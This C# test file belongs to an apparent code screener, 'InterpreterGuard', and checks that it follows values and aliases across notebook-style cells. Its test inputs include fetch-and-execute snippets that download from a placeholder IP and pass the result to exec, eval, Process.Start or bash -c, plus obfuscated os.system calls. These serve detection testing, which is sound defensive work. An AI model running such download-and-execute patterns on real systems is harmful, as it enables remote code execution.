using InterpreterGuard.Core.Facts;
using InterpreterGuard.Core.Screening;
using InterpreterGuard.Core.Submissions;

namespace InterpreterGuard.Screening.Tests;

/// <summary>The cells of a session: what one brings in or makes, the later ones use.</summary>
public sealed class CellTests(ParserContainer parser)
{
    private readonly IScreener _screener = Screening.Screener(parser);

    [Theory]
    [InlineData("python", "import requests\nx = requests.get('http://192.0.2.7/a').text\n", "exec(x)\n", "network", "code")]
    [InlineData("javascript", "const x = await (await fetch('http://192.0.2.7/a')).text();\n", "eval(x);\n", "network", "code")]
    [InlineData("csharp", "var x = await new HttpClient().GetStringAsync(\"http://192.0.2.7/a\");\n", "System.Diagnostics.Process.Start(\"sh\", x);\n", "network", "process")]
    [InlineData("shell", "x=$(curl -s http://192.0.2.7/a)\n", "bash -c \"$x\"\n", "network", "shell")]
    public async Task A_value_is_followed_from_one_cell_to_the_next(string language, string first, string second, string source, string sink)
    {
        var report = await CellsAsync(language, first, second);

        Assert.Contains(report.Facts.OfType<CodeFlow>(), flow => flow.Source == source && flow.Sink == sink && flow.Span.StartLine == 1);
    }

    [Theory]
    [InlineData("python", "import os as o\ns = getattr(o, 'sys' + 'tem')\n", "\ns('id')\n", "id()")]
    [InlineData("python", "def go(what):\n    import os\n    os.system(what)\n", "\ngo('id')\n", "id()")]
    [InlineData("python", "def go():\n    import os\n    os.system(word)\n", "word = 'id'\ngo()\n", "id()")]
    [InlineData("javascript", "const { execSync: go } = require('child_process');\n", "\ngo('id');\n", "id()")]
    [InlineData("csharp", "using System.Diagnostics;\nvoid Go(string what) => Process.Start(what);\n", "\nGo(\"id\");\n", "id()")]
    [InlineData("csharp", "using System.Diagnostics;\nvar start = new ProcessStartInfo { FileName = \"id\" };\n", "\nProcess.Start(start);\n", "id()")]
    [InlineData("shell", "go() { \"$@\"; }\nalias look=id\n", "\ngo id\n", "id()")]
    [InlineData("shell", "alias look=id\n", "\nlook\n", "id()")]
    [InlineData("shell", "printf 'id\\n' > a.sh\n", "\nsh a.sh\n", "id()")]
    public async Task A_name_means_what_an_earlier_cell_gave_it_and_stands_where_it_is_used(string language, string first, string second, string call)
    {
        var report = await CellsAsync(language, first, second);

        var told = report.Facts.OfType<CodeCall>().Where(fact => $"{fact.Name}({fact.Text})" == call).ToList();
        Assert.NotEmpty(told);
        Assert.All(told, fact => Assert.Equal(2, fact.Span.StartLine));
    }

    [Theory]
    [InlineData("python", "raise SystemExit\nexec = print\n", "exec('import os; os.getlogin()')\n", "os.getlogin()")]
    [InlineData("python", "import os\n", "1/0\nos = 3\n", "os.getlogin()\n", "os.getlogin()")]
    [InlineData("shell", "false && id() { :; }\n", "id\n", "id()")]
    [InlineData("shell", "exit\nalias id=true\n", "id\n", "id()")]
    [InlineData("csharp", "class Process { public static void Start(string name) { } } throw new Exception();\n", "Process.Start(\"id\");\n", "id()")]
    public async Task What_an_earlier_cell_may_never_have_done_hides_nothing(string language, params string[] cellsAndCall)
    {
        var report = await CellsAsync(language, cellsAndCall[..^1]);

        Assert.Contains(cellsAndCall[^1], report.Calls());
    }

    [Fact]
    public async Task A_cell_tells_only_what_it_does_itself()
    {
        var report = await CellsAsync("python", "import os\nos.system('id')\ndef go():\n    os.system('id')\n", "x = 1\n");

        Assert.Empty(report.Facts.OfType<CodeCall>());
        Assert.Empty(report.Layers);
    }

    [Fact]
    public async Task Memories_are_apart_and_full_ones_begin_anew()
    {
        var (one, other) = (_screener.NewMemory(), _screener.NewMemory());
        await ReadAsync("python", "import os as o\n", one);

        Assert.DoesNotContain("os.getlogin()", (await ReadAsync("python", "o.getlogin()\n", other)).Calls());
        await ReadAsync("python", $"x = '{new string('a', (1024 * 1024) - 10)}'\n", one);
        Assert.Equal(1, one.Cells);
        Assert.DoesNotContain("os.getlogin()", (await ReadAsync("python", "o.getlogin()\n", one)).Calls());
    }

    [Fact]
    public async Task Cells_that_are_read_at_once_wait_for_each_other()
    {
        var memory = _screener.NewMemory();

        await Task.WhenAll(Enumerable.Range(0, 16).Select(number => ReadAsync("python", $"n{number} = {number}\n", memory)));

        Assert.Equal(16, memory.Cells);
    }

    private async Task<ScreeningReport> CellsAsync(string language, params string[] cells)
    {
        var memory = _screener.NewMemory();
        ScreeningReport? report = null;
        foreach (var cell in cells)
            report = await ReadAsync(language, cell, memory);
        Assert.Empty(report!.Facts.OfType<CodeUnreadable>());
        return report;
    }

    private Task<ScreeningReport> ReadAsync(string language, string code, IScreeningMemory memory) =>
        _screener.ScreenAsync(new ScreeningInput(new Language(language), code) { Memory = memory }, TestContext.Current.CancellationToken);
}
